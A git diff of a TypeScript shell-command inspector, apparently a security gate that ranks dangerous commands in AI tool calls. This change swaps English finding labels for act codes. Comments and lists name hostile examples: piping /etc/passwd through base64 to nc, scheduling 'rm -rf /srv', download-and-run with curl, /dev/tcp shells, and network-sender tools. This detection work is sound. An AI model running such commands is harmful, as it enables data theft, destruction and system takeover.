@@ -1,10 +1,13 @@
 import type { ShellInArguments, ShellFinding } from '../../contracts/policy.js';
 import { eachText, namesAmong } from '../argument-texts.js';
 import { decodeEscapes } from '../inspection/escapes.js';
+import { type ShellAct, shellActOf } from './acts.js';
 import { Allowance } from './allowance.js';
 import { JoiningBudget, linesOfList, linesOfMembers } from './joined.js';
 import { foldersBeside, linesWritten } from './beside.js';
-import { type Command, FUNCTIONS, namesGiven, readCommands, type Word } from './lexer.js';
+import type { Command, Word } from './command.js';
+import { readCommands } from './lexer.js';
+import { FUNCTIONS, namesGiven } from './names-given.js';
 import { fed, readsCommands } from './fed.js';
 import { ENTERS, Folders, MOST_FOLDERS, type View } from './folders.js';
 import { namesEntered, type Paths } from './paths.js';
@@ -27,7 +30,18 @@ import { words } from '../text.js';
  * Finds the shell commands in the arguments of a call. The result depends only on the arguments. Takes linear time, and throws only what the
  * allowance's checkpoint throws.
  */
-export type ShellReader = (argumentsOfCall: unknown, allowance?: Allowance) => ShellInArguments;
+export type ShellReader = (argumentsOfCall: unknown, allowance?: Allowance) => ShellActs;
+
+export interface ShellActs extends Omit<ShellInArguments, 'found'> {
+  readonly found: readonly FoundAct[];
+}
+
+/** The same in the words that rules and people are told. */
+export const shellTold = ({ worst, found, more }: ShellActs): ShellInArguments => ({
+  worst,
+  found: found.map(({ effect, act, form, path }) => ({ effect, kind: shellActOf(act).says, form, path })),
+  more,
+});
 
 /** Findings kept, the gravest first. */
 const FINDINGS = 16;
@@ -44,7 +58,9 @@ const RANKS: readonly ShellFinding['effect'][] = ['changes', 'takes_over', 'remo
 const worse = (one: ShellReading | null, other: ShellReading | null): ShellReading | null =>
   one === null || (other !== null && RANKS.indexOf(other.effect) > RANKS.indexOf(one.effect)) ? other : one;
 
-type Found = Omit<ShellFinding, 'path'>;
+/** A finding by what Gate calls it. */
+export type FoundAct = Omit<ShellFinding, 'kind'> & { readonly act: ShellAct };
+type Found = Omit<FoundAct, 'path'>;
 /** Any finding in a command is graver than any in a sentence, because the text runs if a shell gets it. */
 const graveness = ({ form, effect }: Found): number => RANKS.indexOf(effect) + (form === 'command' ? RANKS.length : 0);
 const graver = (one: Found | null, other: Found | null): Found | null =>
@@ -63,13 +79,13 @@ export const createShellReader = ({ carriers }: ShellArgumentNames): ShellReader
     return names !== '' && names === told(other);
   };
   return (value, allowance = new Allowance(value)) => {
-    const found: ShellFinding[] = [];
+    const found: FoundAct[] = [];
     let more = false;
     // One of each effect at a place: what is said of an argument hides nothing that is said of another.
-    const keep = (finding: ShellFinding): void => {
+    const keep = (finding: FoundAct): void => {
       const like = found.findIndex(({ effect, path }) => effect === finding.effect && isSamePlace(path, finding.path));
       if (like >= 0) {
-        if (graveness(found[like] as ShellFinding) >= graveness(finding)) return;
+        if (graveness(found[like] as FoundAct) >= graveness(finding)) return;
         found.splice(like, 1);
       }
       const at = found.findIndex((one) => graveness(one) < graveness(finding));
@@ -261,12 +277,12 @@ function isPlainLine(text: string): boolean {
 }
 
 /** Holds the call for review whatever the tool: the part that was not read may be anything. */
-const UNREAD: Found = { effect: 'takes_over', kind: 'more commands than are read', form: 'command' };
-const SHELL_AWAY: ShellReading = { effect: 'takes_over', kind: 'a shell handed to another machine' };
-const DOWNLOADED: ShellReading = { effect: 'takes_over', kind: 'a program that runs what it downloads' };
-const DECODED: ShellReading = { effect: 'takes_over', kind: 'a command that hides what it runs' };
-const LEFT: ShellReading = { effect: 'changes', kind: 'a script from a folder where anybody leaves files' };
-const PIPED: ShellReading = { effect: 'changes', kind: 'a shell that runs what it is given' };
+const UNREAD: Found = { effect: 'takes_over', act: 'unread', form: 'command' };
+const SHELL_AWAY: ShellReading = { effect: 'takes_over', act: 'shell_handed_away' };
+const DOWNLOADED: ShellReading = { effect: 'takes_over', act: 'runs_download' };
+const DECODED: ShellReading = { effect: 'takes_over', act: 'runs_hidden' };
+const LEFT: ShellReading = { effect: 'changes', act: 'runs_left_script' };
+const PIPED: ShellReading = { effect: 'changes', act: 'runs_given' };
 
 const RUNS: Readonly<Record<Source, ShellReading>> = { given: PIPED, decoded: DECODED, fetched: DOWNLOADED };
 
@@ -534,7 +550,7 @@ function foldersOf(before: readonly string[]): {
   return { folders: folders.size > MOST_FOLDERS ? null : [...folders], others };
 }
 
-const UNSURE: ShellReading = { effect: 'changes', kind: 'a file written over that only a shell knows' };
+const UNSURE: ShellReading = { effect: 'changes', act: 'unsure_file_written' };
 /** Words that only a shell makes a path of, apart from those variables that lead to no folder of the system. */
 const isUnsure = ({ text, unknown, runs, operated }: Word, set: ReadonlySet<string>): boolean =>
   runs.some((inner) => !saysNothing(inner)) ||
@@ -791,7 +807,7 @@ const maySayProgram = (head: Word | undefined): boolean =>
   !isEnglish(head) &&
   /^(?:(?:\.{1,2}|~)?\/(?:[\w.+-]{1,64}\/){0,16})?[a-z][\w.+-]{0,31}$/.test(head.text);
 
-const ON_FOUND: ShellReading = { effect: 'changes', kind: 'a command run on whatever is found' };
+const ON_FOUND: ShellReading = { effect: 'changes', act: 'run_on_found' };
 const EXECUTES = /^-(?:exec|execdir|ok|okdir)$/;
 /** `-exec env rm {} +`: what is no reader changes the files that it is given. */
 function* runOnFound(command: Command, rest: readonly Word[]): Generator<Command | ShellReading> {
@@ -874,7 +890,7 @@ const SEARCHES = words('grep egrep fgrep zgrep rg ag ack');
 const readsHere = (program: string, args: readonly string[]): boolean =>
   SEARCHES.has(program) && args.filter((arg) => !arg.startsWith('-')).length <= 1;
 const SENDERS = words('nc ncat netcat nc.traditional nc.openbsd socat curl telnet ssh');
-const SENT: ShellReading = { effect: 'changes', kind: 'data sent out' };
+const SENT: ShellReading = { effect: 'changes', act: 'data_sent' };
 /** Whether what a command reads comes from a file of the system: `cat /etc/passwd | base64 | nc host 1`. */
 function readsVitalFile({ reads }: Command, paths: Paths): boolean {
   let giver = reads;
@@ -885,12 +901,12 @@ function readsVitalFile({ reads }: Command, paths: Paths): boolean {
   return false;
 }
 
-const LOADED: ShellReading = { effect: 'takes_over', kind: 'a program made to load code from elsewhere' };
+const LOADED: ShellReading = { effect: 'takes_over', act: 'code_loaded' };
 const movesGit = (set: string): boolean => {
   const equals = set.indexOf('=');
   return equals > 0 && movesSettings(set.slice(0, equals), set.slice(equals + 1));
 };
-const MOVED: ShellReading = { effect: 'takes_over', kind: 'programs taken from another folder' };
+const MOVED: ShellReading = { effect: 'takes_over', act: 'programs_moved' };
 /** Whether programs may be taken from a folder to which anybody writes, or from folders that are none of the system's. */
 function movesPrograms(path: string, isRun: boolean): boolean {
   const folders = path.split(':', MOST_OF_PATH + 1);
@@ -960,10 +976,10 @@ const runsNothing = (program: string, value: string): boolean =>
   HARMLESS_RUN.test(value) ||
   (/^(?:sort|tcpdump)$/.test(program) && COMPRESSES.test(value)) ||
   (program === 'rg' && value === '');
-const INSIDE: ShellReading = { effect: 'takes_over', kind: 'a command inside of another one' };
+const INSIDE: ShellReading = { effect: 'takes_over', act: 'runs_inside' };
 
-const STOPPED: ShellReading = { effect: 'changes', kind: 'a machine stopped or restarted' };
-const SCHEDULED: ShellReading = { effect: 'changes', kind: 'scheduled work changed' };
+const STOPPED: ShellReading = { effect: 'changes', act: 'machine_stopped' };
+const SCHEDULED: ShellReading = { effect: 'changes', act: 'schedule_changed' };
 /** `echo 'rm -rf /srv' | at now`, `at now <<< '…'`, `at -f job.sh 23:00`. */
 function scheduled({ program, args }: Called, { reads, redirects }: Command): ShellReading | null {
   if (!SCHEDULERS.has(program)) return null;
@@ -1271,7 +1287,7 @@ const codeOf = (rest: readonly Word[]): ShellReading | null => {
   const [head] = rest;
   if (head === undefined || !CODE_HEAD.test(head.text)) return null;
   return CODE_DEED.test(head.text) || head.text.startsWith('__import__')
-    ? { effect: 'changes', kind: 'code that runs commands or removes files' }
+    ? { effect: 'changes', act: 'code_runs' }
     : null;
 };
 
@@ -1284,12 +1300,11 @@ function redirected(
   for (const { operator, target } of redirects) {
     if (target === null || !operator.includes('>')) continue;
     const { text } = target;
-    if (paths.isDisk(text)) return { effect: 'takes_over', kind: 'a disk written over' };
+    if (paths.isDisk(text)) return { effect: 'takes_over', act: 'disk_written' };
     if (/^\/dev\/(?:tcp|udp)\//.test(text)) return SHELL_AWAY;
     const isVital =
       paths.isVitalFile(text) || (!text.startsWith('&') && views.some((view) => paths.isVitalFile(view(text))));
-    if (isVital && (all.length > 0 || operator === '>'))
-      return { effect: 'takes_over', kind: 'a file of the system written over' };
+    if (isVital && (all.length > 0 || operator === '>')) return { effect: 'takes_over', act: 'system_written' };
   }
   for (const { target } of redirects)
     if (target !== null && /^\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/[\d$]/.test(target.text)) return SHELL_AWAY;
@@ -1301,7 +1316,7 @@ function forkBomb(command: Command, functions: ReadonlySet<string>): ShellReadin
   const name = command.words[0]?.text;
   const before = command.reads?.words.at(-1)?.text;
   const bomb = name !== undefined && name === before && (functions.has(name) || name === '%0');
-  return bomb ? { effect: 'takes_over', kind: 'a program that starts itself without end' } : null;
+  return bomb ? { effect: 'takes_over', act: 'runs_without_end' } : null;
 }
 
 /** Detects `curl -o a.sh http://... && sh a.sh`. Records the names of downloaded files in `files`. */
